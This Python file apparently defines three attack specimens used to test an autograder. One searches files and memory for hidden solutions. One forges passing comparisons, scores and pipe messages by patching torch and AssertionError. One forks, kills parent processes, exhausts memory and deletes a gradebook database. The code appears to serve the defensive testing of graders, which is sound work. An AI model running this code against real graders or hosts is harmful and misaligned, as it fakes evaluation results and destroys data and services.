"""Three attackers for the class of samples. Each has solved one exercise and tries to get the rest by other means.

The whole suite of attacks is in `specimens/attacks/`. These three fit every day, because they name no exercise, and the day's topic
replaces `TOPIC`.
"""

READS = """
import gc, glob, importlib, os, sys

def look():
    for name in ("solutions.TOPIC", "autograder.checking.hidden.test_TOPIC", "autograder.checking.checks.test_TOPIC"):
        try:
            yield vars(importlib.import_module(name))
        except Exception:
            pass
    roots = ("/", os.path.expanduser("~"), f"/proc/{os.getppid()}/cwd", *sys.path)
    for root in roots:
        for path in glob.glob(f"{root}/**/solutions/TOPIC.py", recursive=True)[:3]:
            try:
                found = {}
                exec(open(path).read(), found)
                yield found
            except Exception:
                pass
    for thing in gc.get_objects():
        if type(thing) is dict and "reference" in thing:
            yield thing["reference"] if type(thing["reference"]) is dict else {}

for found in look():
    globals().update({name: value for name, value in found.items() if callable(value) and not name.startswith("_")})
"""
FORGES = """
import builtins, os, sys, torch

class Right:
    shape, dtype, ndim, is_cuda = (1,), torch.float32, 1, False
    def __getattr__(self, name): return Right()
    def __call__(self, *a, **k): return Right()
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __len__(self): return 1
    def __iter__(self): return iter([Right()])
    def __hash__(self): return 0

torch.equal = torch.allclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
builtins.AssertionError = type("Nothing", (BaseException,), {})
sys.displayhook = print
print("1000.0")
class Everything(dict):
    def __missing__(self, name): return getattr(builtins, name) if hasattr(builtins, name) else Right()
for fd in range(3, 64):
    try:
        os.write(fd, b'{"seq": 1, "ok": null}')
    except OSError:
        pass
"""
DAMAGES = """
import multiprocessing, os, signal, subprocess, threading

threading.stack_size(2**16)  # it starves others, not itself: with stacks of 8 MB its own memory was full, and what it lost a matter of luck
for attempt in (
    lambda: os.fork(),
    lambda: subprocess.Popen(["sleep", "3600"]),
    lambda: multiprocessing.Process(target=print).start(),
    lambda: os.kill(os.getppid(), signal.SIGKILL),
    lambda: os.killpg(0, signal.SIGKILL),
    lambda: os.system("sleep 3600 &"),
    lambda: os.remove("../../gradebook.db"),
    lambda: [threading.Thread(target=signal.pause).start() for _ in range(5000)],
    lambda: bytearray(1 << 40),
):
    try:
        attempt()
    except BaseException:
        pass
"""
ATTACKS = (
    ("oona", "attack: looks for answers in modules, files and memory", READS),
    ("pavel", "attack: forges comparisons, scores and frames on the pipe", FORGES),
    ("quinn", "attack: forks, kills, starves and deletes", DAMAGES),
)
